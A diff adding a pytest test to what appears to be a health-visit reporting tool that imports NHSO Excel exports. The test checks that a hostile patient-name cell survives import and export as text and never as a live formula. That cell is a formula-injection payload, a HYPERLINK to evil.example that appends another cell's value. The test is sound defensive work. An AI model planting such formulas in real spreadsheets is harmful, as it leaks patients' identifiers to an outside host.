@@ -130,3 +130,32 @@ def test_rows_are_capped(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Non
     with pytest.raises(NhsoFileRefused, match="more than 3 rows"):
         read_nhso_export(path)
     assert len(read_nhso_export(_nhso_file(tmp_path / "few.xlsx", ["28/11/2569"] * 3)).rows) == 3
+
+
+def test_a_hostile_name_in_nhsos_file_stays_text_after_import(
+    visit_log: VisitLogWriter, tmp_path: Path
+) -> None:
+    """A report whose name cell is the text `=HYPERLINK(…)`: imported as NHSO's code, then
+    exported, it is a text cell, never a live link (issue 18 item 5)."""
+    from app.reports.common import row_values
+    from app.verify.day import import_nhso_rows
+
+    hostile = '=HYPERLINK("http://evil.example/?cid="&C2,"เปิด")'
+    wb = Workbook()
+    ws = wb.active
+    assert ws is not None
+    ws.append(HEADERS)
+    ws.append(row_values(ws, [OUR_HCODE, P[0], hostile, pp_code(7), "28/11/2569 09:00:00"]))
+    path = tmp_path / "nhso.xlsx"
+    wb.save(path)
+    export = read_nhso_export(path)
+    assert [r.patient_name for r in export.rows] == [hostile]
+    assert import_nhso_rows(visit_log.log, export.rows) == 1
+    out = tmp_path / "visits.xlsx"
+    assert main(["export", "--from", "2026-11-28", "--to", "2026-11-28", "--out", str(out)]) == 0
+    with zipfile.ZipFile(out) as archive:
+        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
+    assert sheets and not any(b"<f>" in xml for xml in sheets)
+    from openpyxl import load_workbook
+
+    assert load_workbook(out).worksheets[0].cell(row=2, column=4).value == hostile
